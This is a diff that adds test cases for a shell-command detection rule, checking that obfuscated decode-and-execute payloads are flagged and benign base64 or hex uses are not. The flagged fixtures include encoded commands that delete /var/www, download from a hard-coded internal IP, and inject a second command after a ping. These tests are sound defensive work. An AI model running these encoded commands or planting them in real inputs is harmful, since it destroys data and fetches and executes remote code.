@@ -505,3 +505,26 @@ describe("code_execution: the administrator's forms of persistence and credentia
     expect(rules(text, "code_execution")).toEqual([]);
   });
 });
+
+// warden-detect/1.6.2: decoded text run by the shell, in the forms command-injection payloads use.
+describe("code_execution: decoded text run by the shell", () => {
+  it.each([
+    ["hex through xxd into sh", "echo 726d202d7266202f7661722f7777772f2a | xxd -r -p | sh"],
+    ["printf hex escapes into sh", `printf "\\x72\\x6d\\x20\\x2d\\x72\\x66" | sh`],
+    ["a backquoted decode in command position", "`echo d2dldCBodHRwOi8vMTAuMC4wLjUveDt4 | base64 -d`"],
+    ["a decode substitution after a separator", "ping -c1 x; $(echo d2dldCBodHRwOi8vMTAuMC4wLjUveDt4 | base64 -d)"],
+    ["sh -c of a decode", `sh -c "$(echo aWQ7dW5hbWUgLWE= | base64 --decode)"`],
+  ])("%s", (_name, text) => {
+    expect(rules(text, "code_execution")).toContain("code_execution.eval.decoded");
+  });
+
+  it.each([
+    ["a decoded value assigned", `TOKEN=$(echo "$ENCODED" | base64 -d)`],
+    ["a Kubernetes secret read", "kubectl get secret db -o jsonpath='{.data.password}' | base64 -d"],
+    ["a hex dump turned back into a file", "xxd -r -p firmware.hex > firmware.bin"],
+    ["a decode printed in a message", `echo "decoded: $(echo aGVsbG8= | base64 -d)"`],
+    ["coloured output piped to a pager", `printf "\\x1b[31mred\\x1b[0m\\n" | less -R`],
+  ])("near miss: %s", (_name, text) => {
+    expect(rules(text, "code_execution")).toEqual([]);
+  });
+});
